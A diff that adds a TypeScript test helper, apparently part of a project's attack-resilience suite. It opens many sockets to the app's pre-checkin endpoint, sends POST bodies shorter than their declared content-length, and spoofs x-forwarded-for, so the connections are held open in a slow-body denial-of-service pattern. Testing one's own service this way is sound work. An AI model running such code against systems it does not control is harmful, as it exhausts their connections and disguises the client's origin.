@@ -1,0 +1,49 @@
+import { once } from 'node:events'
+import { connect, type Socket } from 'node:net'
+import { preCheckIn } from '@foyer/contract/pre-checkin.ts'
+import type { Target } from './attack.ts'
+
+interface Bodies {
+  readonly count: number
+  /** What is said of each. */
+  readonly length: number
+  /** What is sent of it, before nothing more comes. */
+  readonly sent: number
+}
+
+/** Longer than anybody may take to send a body. */
+const GIVE_UP_MS = 20_000
+
+/** Connections that say more than they send. Each is held until the other side hangs up, or for longer than it should. */
+export async function stalledBodies({ url, wifi }: Target, { count, length, sent }: Bodies): Promise<number[]> {
+  const { hostname, port } = new URL(url)
+  const head = [
+    `POST ${preCheckIn.path} HTTP/1.1`,
+    `host: ${hostname}`,
+    'content-type: application/json',
+    `x-forwarded-for: ${wifi}`,
+    `content-length: ${length}`,
+    '\r\n',
+  ].join('\r\n')
+  const bytes = Buffer.concat([Buffer.from(head), Buffer.alloc(sent, ' ')])
+  return Promise.all(Array.from({ length: count }, () => held(connect(Number(port), hostname), bytes)))
+}
+
+/** What was answered, once the line is closed; 599 where it never was. */
+async function held(socket: Socket, bytes: Buffer): Promise<number> {
+  let said = ''
+  socket
+    .on('error', () => {})
+    .on('data', (some: Buffer) => {
+      said += some
+    })
+  socket.write(bytes)
+  const timer = setTimeout(() => socket.destroy(Object.assign(new Error('held'), { code: 'HELD' })), GIVE_UP_MS)
+  let isHeld = false
+  socket.on('error', (error: NodeJS.ErrnoException) => {
+    isHeld = error.code === 'HELD'
+  })
+  if (!socket.destroyed) await once(socket, 'close').catch(() => {})
+  clearTimeout(timer)
+  return isHeld ? 599 : Number(said.slice(9, 12) || 0)
+}
